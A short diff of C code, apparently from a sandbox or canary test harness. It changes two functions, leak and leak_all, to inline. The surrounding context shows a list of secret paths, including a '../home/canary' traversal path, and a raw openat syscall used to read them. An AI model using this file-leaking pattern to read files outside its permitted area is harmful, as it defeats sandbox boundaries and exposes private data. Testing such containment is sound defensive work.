@@ -25,7 +25,7 @@ static const char *const secrets[] = {
     "../home/canary",
 };
 
-static void leak(const char *path)
+static inline void leak(const char *path)
 {
     char text[256];
     int fd = (int)raw(SYS_openat, AT_FDCWD, path, O_RDONLY);
@@ -35,7 +35,7 @@ static void leak(const char *path)
     }
 }
 
-static void leak_all(void)
+static inline void leak_all(void)
 {
     for (size_t i = 0; i < sizeof secrets / sizeof *secrets; i++) {
         leak(secrets[i]);
